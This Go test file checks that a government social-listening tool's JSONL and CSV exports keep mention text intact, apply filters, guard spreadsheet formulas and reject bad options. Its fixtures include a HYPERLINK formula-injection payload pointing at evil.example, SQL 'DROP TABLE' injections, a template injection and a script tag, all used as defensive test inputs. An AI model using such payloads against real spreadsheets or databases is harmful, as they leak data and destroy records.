package export_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/govlisten/govlisten/analytics"
	"github.com/govlisten/govlisten/export"
	"github.com/govlisten/govlisten/internal/testenv"
	"github.com/govlisten/govlisten/mention"
	"github.com/govlisten/govlisten/processors/sink"
	"github.com/govlisten/govlisten/processors/tagger"
)

// hostile are texts a public mention may carry; each must come out byte
// for byte as stored.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?q="&A1,"click")`,
	"+44 7700 900123 call me",
	"-1 stars, \"quoted\", comma, and a\nnew line\r\nand a CRLF",
	"@DWP why has my payment not arrived?",
	"NUL \x00 inside; tab\there",
	"RTL \u202egnirts desrever\u202c and ZWJ 👩\u200d👩\u200d👧 families 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
	`'; DROP TABLE mentions; -- {{.Secret}} <script>alert(1)</script>`,
}

type fixture struct {
	st   *sink.Store
	rows []sink.Row // as last stored, by id
}

func row(id, platform string, at time.Time, text string, depts, topics []string) sink.Row {
	return sink.Row{
		M: &mention.Mention{V: mention.Version, Platform: platform, ID: id, Kind: mention.KindPost, Text: text, Lang: "en",
			AuthorID: "a" + id, AuthorHandle: "h" + id, AuthorName: "Name " + id, URL: "https://example.gov.uk/" + id,
			CreatedAt: at, CollectedAt: at.Add(time.Minute), Metrics: mention.Metrics{Likes: 3, Replies: 2, Shares: 1},
			Source: mention.Source{Name: "src", Department: "dwp"}, Raw: json.RawMessage(`{"id":"` + id + `","n":1}`)},
		Tags:     tagger.Tags{Departments: depts, Topics: topics, Sentiment: tagger.Score{Score: -0.25, Label: tagger.Negative}, Lang: "en", Matched: []string{"universal credit"}},
		Taxonomy: "test@1",
	}
}

// load stores mentions over three days, one of them twice (the second
// version re-tagged), and returns the store and the newest version of
// each.
func load(t *testing.T) *fixture {
	t.Helper()
	srv, _ := testenv.ClickHouseServer(t)
	st := testenv.Store(t, srv.DSN("export"))
	day := time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
	var rows []sink.Row
	for i, text := range hostile {
		rows = append(rows, row(fmt.Sprintf("1%02d", i), mention.Twitter, day.Add(time.Duration(i)*time.Hour), text, []string{"dwp"}, []string{"welfare"}))
	}
	rows = append(rows,
		row("200", mention.YouTube, day.Add(-time.Second), "the day before, last second", []string{"hmrc"}, []string{"tax"}),
		row("201", mention.Facebook, day.Add(24*time.Hour), "next day, first second", []string{"dwp", "hmrc"}, nil),
		row("202", mention.Facebook, day.Add(47*time.Hour+59*time.Minute), "day after next", nil, nil),
		row("203", mention.Twitter, day.Add(48*time.Hour), "at the end bound: excluded", []string{"dwp"}, nil),
		row("300", mention.Twitter, day.Add(12*time.Hour), "will be re-tagged", []string{"dhsc"}, []string{"health"}),
	)
	if err := st.Insert(context.Background(), rows); err != nil {
		t.Fatal(err)
	}
	// A redelivery, re-tagged, a second later (processed_at is the version).
	time.Sleep(1100 * time.Millisecond)
	again := row("300", mention.Twitter, day.Add(12*time.Hour), "will be re-tagged", []string{"dwp"}, []string{"welfare"})
	if err := st.Insert(context.Background(), []sink.Row{again}); err != nil {
		t.Fatal(err)
	}
	rows[len(rows)-1] = again
	return &fixture{st: st, rows: rows}
}

func (f *fixture) want(keep func(sink.Row) bool) []string {
	var ids []string
	for _, r := range f.rows {
		if keep(r) {
			ids = append(ids, r.M.ID)
		}
	}
	slices.Sort(ids)
	return ids
}

func (f *fixture) export(t *testing.T, o export.Options) (string, int64) {
	t.Helper()
	var buf bytes.Buffer
	n, err := export.Write(context.Background(), f.st.Conn(), f.st.DB(), o, &buf)
	if err != nil {
		t.Fatal(err)
	}
	total, err := export.Count(context.Background(), f.st.Conn(), f.st.DB(), o)
	if err != nil {
		t.Fatal(err)
	}
	if uint64(n) != total {
		t.Errorf("wrote %d mentions, Count says %d", n, total)
	}
	return buf.String(), n
}

func TestExport(t *testing.T) {
	f := load(t)
	from := time.Date(2026, 11, 19, 23, 59, 59, 0, time.UTC)
	to := time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)
	inRange := func(r sink.Row) bool { return !r.M.CreatedAt.Before(from) && r.M.CreatedAt.Before(to) }
	byID := map[string]sink.Row{}
	for _, r := range f.rows {
		byID[r.M.ID] = r
	}

	t.Run("jsonl", func(t *testing.T) {
		out, n := f.export(t, export.Options{Filter: analytics.Filter{From: from, To: to}, Format: export.JSONL, Raw: true})
		var got []string
		sc := bufio.NewScanner(strings.NewReader(out))
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var r export.Row
			if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
				t.Fatalf("line %q: %v", sc.Text(), err)
			}
			w := byID[r.ID]
			if r.Text != w.M.Text || r.Platform != w.M.Platform || !r.CreatedAt.Equal(w.M.CreatedAt) || r.AuthorHandle != w.M.AuthorHandle ||
				!slices.Equal(r.Departments, nonNil(w.Tags.Departments)) || !slices.Equal(r.Topics, nonNil(w.Tags.Topics)) ||
				r.Likes != 3 || r.SentimentLabel != "negative" || r.Taxonomy != "test@1" || string(r.Raw) != string(w.M.Raw) {
				t.Errorf("mention %s exported as %+v; stored %+v %+v", r.ID, r, *w.M, w.Tags)
			}
			got = append(got, r.ID)
		}
		if want := f.want(inRange); !slices.Equal(sortedCopy(got), want) || int(n) != len(want) {
			t.Errorf("exported %v (%d), want %v: each mention of the range once, its newest version", got, n, want)
		}
	})

	t.Run("csv guards formulas", func(t *testing.T) {
		for _, keep := range []bool{false, true} {
			out, _ := f.export(t, export.Options{Filter: analytics.Filter{From: from, To: to}, Format: export.CSV, KeepFormulas: keep})
			recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			head := recs[0]
			col := func(name string) int { return slices.Index(head, name) }
			if len(recs)-1 != len(f.want(inRange)) || col("text") < 0 || col("departments") < 0 || col("raw") >= 0 {
				t.Fatalf("csv: %d records, header %v", len(recs)-1, head)
			}
			for _, rec := range recs[1:] {
				w := byID[rec[col("id")]]
				text := w.M.Text
				if !keep && strings.ContainsAny(text[:1], "=+-@") {
					text = "'" + text
				}
				// encoding/csv reads a quoted \r\n as \n.
				if got := rec[col("text")]; got != strings.ReplaceAll(text, "\r\n", "\n") {
					t.Errorf("keep formulas %v: text of %s = %q, want %q", keep, w.M.ID, got, text)
				}
				if got := rec[col("departments")]; got != strings.Join(w.Tags.Departments, ";") {
					t.Errorf("departments of %s = %q", w.M.ID, got)
				}
			}
		}
	})

	t.Run("filters", func(t *testing.T) {
		for _, c := range []struct {
			filter analytics.Filter
			keep   func(sink.Row) bool
		}{
			{analytics.Filter{From: from, To: to, Department: "dwp"}, func(r sink.Row) bool { return inRange(r) && slices.Contains(r.Tags.Departments, "dwp") }},
			{analytics.Filter{From: from, To: to, Topic: "welfare"}, func(r sink.Row) bool { return inRange(r) && slices.Contains(r.Tags.Topics, "welfare") }},
			{analytics.Filter{From: from, To: to, Platform: "facebook"}, func(r sink.Row) bool { return inRange(r) && r.M.Platform == "facebook" }},
			{analytics.Filter{From: from, To: to, Department: "dhsc"}, func(sink.Row) bool { return false }}, // only the old version had it
			{analytics.Filter{From: from.Add(time.Second), To: to.Add(time.Second)}, func(r sink.Row) bool {
				return !r.M.CreatedAt.Before(from.Add(time.Second)) && r.M.CreatedAt.Before(to.Add(time.Second))
			}},
		} {
			out, _ := f.export(t, export.Options{Filter: c.filter, Format: export.JSONL})
			var got []string
			for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
				var r export.Row
				if l != "" {
					if err := json.Unmarshal([]byte(l), &r); err != nil {
						t.Fatal(err)
					}
					got = append(got, r.ID)
				}
			}
			if want := f.want(c.keep); !slices.Equal(sortedCopy(got), want) {
				t.Errorf("%+v: exported %v, want %v", c.filter, got, want)
			}
			want := testenv.Count(t, f.st, fmt.Sprintf("SELECT count() FROM %s.mentions FINAL WHERE created_at >= toDateTime(%d) AND created_at < toDateTime(%d)%s", f.st.DB(),
				c.filter.From.Unix(), c.filter.To.Unix(), sqlTags(c.filter)))
			if uint64(len(got)) != want {
				t.Errorf("%+v: exported %d, SQL counts %d", c.filter, len(got), want)
			}
		}
	})

	t.Run("bad options", func(t *testing.T) {
		for _, o := range []export.Options{
			{Filter: analytics.Filter{From: to, To: from}, Format: export.CSV},
			{Filter: analytics.Filter{From: from, To: to}, Format: "xlsx"},
			{Filter: analytics.Filter{From: from, To: to, Department: "x'); DROP TABLE mentions; --"}, Format: export.CSV},
			{Filter: analytics.Filter{From: from, To: to, Platform: "myspace"}, Format: export.CSV},
		} {
			var buf bytes.Buffer
			if _, err := export.Write(context.Background(), f.st.Conn(), f.st.DB(), o, &buf); err == nil || buf.Len() > 0 {
				t.Errorf("%+v: err %v, wrote %d bytes; want an error and nothing written", o, err, buf.Len())
			}
		}
		if n := testenv.Count(t, f.st, "SELECT count() FROM "+f.st.DB()+".mentions FINAL"); n != uint64(len(f.rows)) {
			t.Errorf("%d mentions after the bad exports, want %d", n, len(f.rows))
		}
	})
}

func sqlTags(f analytics.Filter) string {
	s := ""
	if f.Department != "" {
		s += " AND has(departments, '" + f.Department + "')"
	}
	if f.Topic != "" {
		s += " AND has(topics, '" + f.Topic + "')"
	}
	if f.Platform != "" {
		s += " AND platform = '" + f.Platform + "'"
	}
	return s
}

func nonNil(s []string) []string {
	if s == nil {
		return []string{}
	}
	return s
}

func sortedCopy(s []string) []string {
	s = slices.Clone(s)
	slices.Sort(s)
	return s
}
